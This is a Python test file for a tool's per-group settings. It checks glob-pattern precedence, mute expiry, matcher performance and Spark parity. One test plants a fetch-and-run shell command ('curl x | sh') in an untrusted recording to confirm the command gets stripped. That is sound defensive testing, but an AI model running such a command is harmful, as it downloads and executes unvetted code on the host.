"""What is expected of each group: the most specific pattern wins, field by field; in Python and in Spark alike."""

from __future__ import annotations

import re
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pydantic import TypeAdapter, ValidationError

from tests.cli.running import run_here
from workbench.errors import ConfigError
from workbench.settings import load_settings
from workbench.settings_of_groups import Expectations, GroupSettings, Mute, Recorded, matches
from workbench.thresholds import Thresholds

SETTINGS = """
[clusters.prod]
prometheus = "http://p:9090"
[clusters.prod.groups."*"]
owner = "#kafka"
[clusters.prod.groups."billing-*"]
time_lag_objective = "10m"
owner = "#billing"
commit_every = "5m"
[clusters.prod.groups."billing-eu-*"]
time_lag_objective = "30s"
[clusters.prod.groups."billing-eu-1"]
mute = { until = 2026-12-01T08:00:00Z, reason = "migration" }
runbook = "https://wiki/billing"
"""


def expectations(folder: Path, text: str = SETTINGS) -> Expectations:
    """Those of a settings file."""
    (folder / "workbench.toml").write_text(text)
    return Expectations(load_settings(folder / "workbench.toml").cluster("prod").groups)


def test_each_field_comes_from_the_most_specific_pattern_that_has_it(tmp_path: Path) -> None:
    """Not the whole table: an exact line with a mute leaves the objective of the pattern."""
    found = expectations(tmp_path).of("billing-eu-1")
    assert found.settings.time_lag_objective == timedelta(seconds=30)
    assert found.settings.owner == "#billing"
    assert found.lines == {
        "mute": "billing-eu-1",
        "runbook": "billing-eu-1",
        "time_lag_objective": "billing-eu-*",
        "owner": "billing-*",
        "commit_every": "billing-*",
    }
    limits = expectations(tmp_path).limits(Thresholds(), "billing-eu-1")
    assert (limits.time_lag_objective_seconds, limits.commit_every_seconds) == (30, 300)
    assert expectations(tmp_path).limits(Thresholds(), "search") == Thresholds()


def test_a_mute_ends(tmp_path: Path) -> None:
    """And is said with its reason until then."""
    found = expectations(tmp_path).of("billing-eu-1")
    assert found.muted(datetime(2026, 12, 1, 7, tzinfo=UTC)) == "until 2026-12-01 08:00Z: migration"
    assert found.muted(datetime(2026, 12, 1, 8, tzinfo=UTC)) is None


def _naive(pattern: str, name: str) -> bool:
    """A matcher that tries every way."""
    if not pattern:
        return not name
    if pattern[0] == "*":
        return _naive(pattern[1:], name) or (bool(name) and _naive(pattern, name[1:]))
    return bool(name) and pattern[0] in ("?", name[0]) and _naive(pattern[1:], name[1:])


_PATTERNS = st.text(alphabet="ab.*?-'\\$é", min_size=1, max_size=6)


@given(
    st.lists(_PATTERNS, min_size=4, max_size=4, unique=True), st.lists(st.text("ab.-'\\$é", max_size=6), max_size=20)
)
def test_the_right_line_applies_to_every_group(patterns: list[str], groups: list[str]) -> None:
    """Against a naive matcher and the rule in words."""
    found = Expectations({pattern: GroupSettings(owner=pattern) for pattern in patterns})
    for group in groups:
        matching = [it for it in patterns if _naive(it, group)]
        exact = [it for it in matching if not set(it) & set("*?")]
        letters = [(-len(re.sub(r"[*?]", "", it)), it.count("*"), patterns.index(it), it) for it in matching]
        wanted = exact[0] if exact else min(letters)[3] if letters else None
        assert found.of(group).settings.owner == wanted


def test_a_pattern_with_many_stars_is_matched_in_one_pass() -> None:
    """A matcher that goes back would take centuries for a name that does not end as the pattern does."""
    pattern = "*a" * 40 + "*!"
    assert not matches(pattern, "a" * 249)
    assert matches(pattern, "a" * 248 + "!")
    assert matches("*" * 200 + "a" + "*?" * 30, "a" * 40)


def test_prometheus_gets_a_pattern_without_atomic_groups() -> None:
    """RE2 refuses them, and never goes back anyway."""
    [(regex, _)] = Expectations({"a*b*?c": GroupSettings(owner="x")}).regexes()
    assert regex == "(?s:a.*b.*.c)"


def test_what_was_recorded_decides_and_what_is_shown_is_the_readers_own() -> None:
    """Field by field, each by its own most specific pattern; a command that came with a recording is not even kept."""
    theirs = {"pay-*": {"commit_every": "10m", "owner": "#evil", "actions": {"pause": "curl x | sh"}, "batch": None}}
    judged = TypeAdapter(Recorded).validate_python({**theirs, "*": {"batch": "every 6h"}})
    assert {name for it in judged.values() for name in it.model_fields_set} == {"commit_every", "batch"}
    own = {"*": GroupSettings(owner="#ours", time_lag_objective=timedelta(seconds=1)), "x": GroupSettings(runbook="r")}
    found = Expectations.recorded(judged, own).of("pay-eu")
    assert found.lines == {"commit_every": "pay-*", "owner": "*", "batch": "*"}
    assert (found.settings.owner, found.settings.batch) == ("#ours", "every 6h")
    assert found.settings.actions is None
    assert Expectations.recorded(judged, own).of("x").settings.runbook == "r"


def test_patterns_have_a_limit() -> None:
    """A recording's head is 16 MB at most, and each pattern is compared with each group."""
    for patterns in ({str(n): {} for n in range(10_001)}, {"x" * 1001: {}}):
        with pytest.raises(ValidationError, match="patterns"):
            TypeAdapter(Recorded).validate_python(patterns)


@pytest.mark.jvm
def test_spark_matches_as_python_does(tmp_path: Path) -> None:
    """1,000 groups, six patterns, with names that would end a literal or mean something in a regular expression."""
    from pyspark.sql import functions as F

    from workbench.spark.session import session

    wild = {"a*": 1, "a?'\\-*": 2, "*.b$": 3, "a'\\-\n(é": 4, "*a*x*x?": 5, "**é*'*": 6}
    found = Expectations({it: GroupSettings(time_lag_objective=timedelta(seconds=n)) for it, n in wild.items()})
    alphabet = ["a", "'", "\\", "-", ".b$", "\n", "(é", "x"]
    groups = [
        f"{alphabet[i % 8]}{alphabet[i // 8 % 8]}{alphabet[i // 64 % 8]}{alphabet[i // 125 % 8]}" for i in range(996)
    ]
    groups += ["a'\\-\n(é", "a'\\-\n(éx", ".b$", "a"]
    frame = session().createDataFrame([(it,) for it in groups], "`group` string")
    rows = frame.select("group", F.expr(found.objective_sql(120.0)).alias("seconds")).collect()
    thresholds = Thresholds()
    for row in rows:
        assert row["seconds"] == found.limits(thresholds, row["group"]).time_lag_objective_seconds


@pytest.mark.parametrize(
    ("line", "said"),
    [
        ('time_lag_objective = "soon"', "groups.x.time_lag_objective"),
        ("time_lag_objective = 0", "groups.x.time_lag_objective"),
        ('mute = { until = 2026-12-01T08:00:00, reason = "x" }', "no time zone"),
        ("mute = { until = 2026-12-01T08:00:00Z }", "reason"),
        ('onwer = "x"', "groups.x.onwer"),
    ],
)
def test_a_mistake_is_named(tmp_path: Path, line: str, said: str) -> None:
    """With the cluster and the pattern."""
    with pytest.raises(ConfigError, match=said):
        expectations(tmp_path, f'[clusters.prod]\n[clusters.prod.groups."x"]\n{line}\n')
    with pytest.raises(ValidationError):
        Mute.model_validate({"until": "2026-12-01T08:00:00", "reason": "x"})


def test_doctor_says_which_line_applies(tmp_path: Path) -> None:
    """With the pattern, and the default where there is none."""
    expectations(tmp_path)
    done = run_here("doctor", "--group", "billing-eu-1", "--config", "workbench.toml", cwd=tmp_path)
    assert done.returncode == 0
    lines = {line.split()[0]: line for line in done.stdout.splitlines() if line.strip()}
    assert '30 s  ([clusters.prod.groups."billing-eu-*"])' in lines["time_lag_objective"]
    assert '#billing  ([clusters.prod.groups."billing-*"])' in lines["owner"]
    assert "migration" in lines["mute"]
    done = run_here("doctor", "--group", "search", "--config", "workbench.toml", cwd=tmp_path)
    assert "120 s  (default)" in done.stdout
